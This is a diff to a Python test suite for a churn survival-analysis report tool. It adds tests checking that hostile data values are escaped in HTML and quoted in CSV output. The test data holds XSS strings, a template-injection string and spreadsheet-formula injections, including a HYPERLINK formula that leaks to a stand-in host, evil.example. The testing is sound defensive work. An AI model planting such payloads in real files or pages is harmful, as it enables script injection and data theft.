@@ -18,6 +18,8 @@ import nbformat
 import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 import churnsurv as cs
 from churnsurv.exceptions import DataValidationError
@@ -36,6 +38,9 @@ TELCO_CSV = Path(__file__).parents[2] / "datasets" / "telco" / "Telco-Customer-C
 SCRIPT = "<script>alert(1)</script>"
 TEMPLATE = "{{7*7}}"
 IMG_ONERROR = '<img src=x onerror="alert(2)">'
+DOLLARS = "$5_$10"  # matplotlib would read "$5_$" as maths and fail to draw the figure
+FORMULA = "@SUM(1+1)"  # a spreadsheet would run this (and the =HYPERLINK id) as a formula
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
 
 # What the issue asks for in tables/ (file names of the CSVs).
 REQUIRED_TABLES = {
@@ -99,13 +104,15 @@ def parse(page: str) -> _Page:
 def hostile_frame(n: int = 120) -> pd.DataFrame:
     """A small customer table whose names and values are markup, template code and quotes."""
     rng = np.random.default_rng(7)
-    plan = np.array([TEMPLATE, SCRIPT, IMG_ONERROR, "basic"])[np.arange(n) % 4]
-    region = np.array(["north", SCRIPT])[(np.arange(n) // 2) % 2]
+    plan = np.array([TEMPLATE, SCRIPT, IMG_ONERROR, "basic", FORMULA])[np.arange(n) % 5]
+    region = np.array([DOLLARS, SCRIPT])[(np.arange(n) // 2) % 2]
     hazard = np.where(plan == "basic", 0.08, 0.04)
     tenure = np.minimum(np.ceil(rng.exponential(1 / hazard)), 36).astype(int)
     churned = (tenure < 36) & (rng.random(n) < 0.8)
     ids = [f"c{i:04d}" for i in range(n)]
     ids[1] = SCRIPT  # an id that is itself a script tag
+    ids[2] = "$id_$2"  # ids label the value-at-risk figure
+    ids[int(np.flatnonzero(~churned)[0])] = HYPERLINK  # an active customer: in value_at_risk.csv
     return pd.DataFrame(
         {
             "id": ids,
@@ -307,12 +314,85 @@ def test_hostile_names_and_values_are_text_never_markup(hostile):
 def test_hostile_values_survive_into_the_tables(hostile):
     _, runs = hostile
     km = pd.read_csv(runs[0] / "tables" / "km_summary.csv")
-    assert {SCRIPT, TEMPLATE, IMG_ONERROR, "basic"} <= set(km["segment"])
-    assert SCRIPT in set(km["by"])
+    assert {SCRIPT, TEMPLATE, IMG_ONERROR, "basic", "'" + FORMULA} <= set(km["segment"])
+    assert SCRIPT in set(km["by"]) and DOLLARS in set(km["segment"])
+    # every figure was drawn, "$5_$10" in legends and ticks and "$id_$2" among the ids included
+    figures = {p.stem for p in (runs[0] / "figures").glob("*.png")}
+    assert {"km_all", "churn_rates", "cox_hazard_ratios", "value_at_risk"} <= figures
+    assert sum(f.startswith("km_by_") for f in figures) == 2
+    assert sum(f.startswith("clv_by_") for f in figures) == 2
     cox = pd.read_csv(runs[0] / "tables" / "cox_summary.csv")
     assert any(SCRIPT in term for term in cox["term"])
     about = pd.read_csv(runs[0] / "tables" / "about.csv", index_col=0)["value"]
     assert SCRIPT in about["command"] and "os._exit(3)" in about["command"]
+
+
+def test_no_cell_of_any_table_reads_as_a_spreadsheet_formula(hostile):
+    """OWASP CSV injection: text starting with = + - @ tab CR gets a leading quote (issue #12)."""
+    import csv
+
+    _, runs = hostile
+    cells = 0
+    for path in sorted((runs[0] / "tables").glob("*.csv")):
+        with open(path, newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    cells += 1
+                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                        float(cell)  # only numbers may start so: -0.35 stays a number
+    assert cells > 1000
+    var = (runs[0] / "tables" / "value_at_risk.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(""http://evil.example/?leak"",""click"")"' in var
+    km = (runs[0] / "tables" / "km_summary.csv").read_text(encoding="utf-8")
+    assert ",'@SUM(1+1)," in km and ",@SUM" not in km
+    cox = pd.read_csv(runs[0] / "tables" / "cox_summary.csv")
+    assert (cox["log_hr"] < 0).any() and cox["log_hr"].dtype == float  # numbers stay numbers
+
+
+@pytest.fixture(scope="module")
+def display_helpers(tmp_path_factory):
+    """The template's own display helpers (parameters and setup cells), run in this process."""
+    import os
+
+    nb = nbformat.read(template_path(), as_version=4)
+    cells = {c.get("id"): c.source for c in nb.cells}
+    namespace: dict = {}
+    here = os.getcwd()
+    os.chdir(tmp_path_factory.mktemp("helpers"))  # the setup cell makes tables/ and figures/
+    try:
+        exec(cells["parameters"], namespace)  # noqa: S102 -- the shipped template
+        exec(cells["setup"], namespace)  # noqa: S102
+    finally:
+        os.chdir(here)
+    return namespace
+
+
+ALLOWED_TAGS = {"p", "h3", "table", "thead", "tbody", "tr", "th", "td"}
+TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)
+
+
+@settings(
+    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(label=TEXT, column=TEXT, cell=TEXT)
+def test_any_text_from_the_data_is_shown_as_text(display_helpers, label, column, cell):
+    """Property: whatever a name or value holds, the page shows it as text, never as markup.
+
+    Control characters are left out of the strategy: pandas shows a newline in a cell as the
+    two characters backslash and n, which is text too but not the same text.
+    """
+    shown: list[str] = []
+    display_helpers["display"] = lambda obj: shown.append(obj.data)
+    display_helpers["show_text"](label, "h3")
+    display_helpers["show_note"](label)
+    frame = pd.DataFrame({column: [cell]}, index=pd.Index([label], name="segment"))
+    display_helpers["show_table"](frame, None)
+    page = parse("".join(shown))
+    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS
+    assert {name for _, attrs in page.tags for name in attrs} <= {"class", "border", "style"}
+    text = " ".join(page.text().split())
+    for value in (label, column, cell):
+        assert " ".join(value.split()) in text
 
 
 def test_same_input_options_and_seed_give_the_same_numbers(hostile):
@@ -429,7 +509,8 @@ def test_unreadable_files_end_with_one_clear_message(content, name, message, tmp
     path = tmp_path / name
     if content is not None:
         path.write_bytes(content)
-    code = main(["report", str(path), "--duration", "t", "--event", "e", "--out", str(tmp_path)])
+    out = str(tmp_path / "out")
+    code = main(["report", str(path), "--duration", "t", "--event", "e", "--out", out])
     err = capsys.readouterr().err
     assert code == 2 and f"error: cannot read '{path}'" in err and message in err, err
     assert "Traceback" not in err
@@ -456,6 +537,11 @@ def test_help_explains_every_option_with_an_example(capsys, monkeypatch):
     for option in options:
         assert f"Example: {option}" in text, option
     assert "churnsurv report --dataset telco --out report/" in text
+    # what happens to --out, and every exit status (issue #12)
+    assert "Only files the previous report wrote (listed in .churnsurv-report.json)" in text
+    for status in ("0 the report is complete", "2 bad option, input or --out",
+                   "3 completed with skipped sections", "130, 143 interrupted"):  # fmt: skip
+        assert status in text, status
 
 
 def test_unexpected_failure_in_the_notebook_is_one_message(tmp_path, monkeypatch, capsys):
@@ -476,7 +562,8 @@ def test_unexpected_failure_in_the_notebook_is_one_message(tmp_path, monkeypatch
     err = capsys.readouterr().err
     assert code == 1, err
     assert "cell 4 (section '9. Broken section'): RuntimeError: simulated bug" in err
-    assert "Traceback" not in err and str(tmp_path / "out" / "report.ipynb") in err
+    assert "Traceback" not in err and str(tmp_path / "out" / "report-failed.ipynb") in err
+    assert not (tmp_path / "out" / "report.ipynb").exists()  # nothing half-made in its place
 
 
 # --------------------------------------------------------------------------------------------
@@ -567,5 +654,32 @@ def test_read_input_reads_a_file_or_a_bundled_data_set(tmp_path):
 def test_template_uses_the_io_helpers_not_its_own_copies():
     code = "\n".join(c.source for c in nbformat.read(template_path(), as_version=4).cells)
     assert "from churnsurv.report.io import formula_columns, read_input, sbg_tail" in code
-    for copy in ("hashlib", "read_csv", "read_parquet", "formulaic.Formula", "np.ceil", "np.floor"):
+    copies = ("hashlib", "read_csv", "read_parquet", "formulaic.Formula", "np.ceil", "np.floor")
+    for copy in (*copies, ".to_csv("):  # every table is written by write_csv
         assert copy not in code, copy
+
+
+def test_neutralise_formulas_quotes_text_only():
+    from churnsurv.report.io import neutralise_formulas
+
+    frame = pd.DataFrame(
+        {
+            "=cmd": ["-x", "@y", "\tz", "\rw", "+1", "ok"],
+            "mixed": ["=a", -1.5, None, "b", 2, "-"],
+            "hr": [-1.0, 0.5, -2.0, 1.0, 3.0, -0.1],
+            "plan": pd.Categorical(["=p", "q", "=p", "q", "q", "q"]),
+        },
+        index=pd.Index(["+i", "j", "k", "l", "m", "n"], name="@id"),
+    )
+    out = neutralise_formulas(frame)
+    assert list(out.columns) == ["'=cmd", "mixed", "hr", "plan"] and out.index.name == "'@id"
+    assert out.index[0] == "'+i" and out.index[1] == "j"
+    assert out["'=cmd"].tolist() == ["'-x", "'@y", "'\tz", "'\rw", "'+1", "ok"]
+    assert out["mixed"].tolist()[:2] == ["'=a", -1.5] and out["mixed"].tolist()[3:] == [
+        "b",
+        2,
+        "'-",
+    ]
+    assert out["hr"].dtype == float and out["hr"].tolist() == frame["hr"].tolist()  # numbers stay
+    assert out["plan"].tolist()[:2] == ["'=p", "q"]
+    assert frame.columns[0] == "=cmd"  # the input is not changed
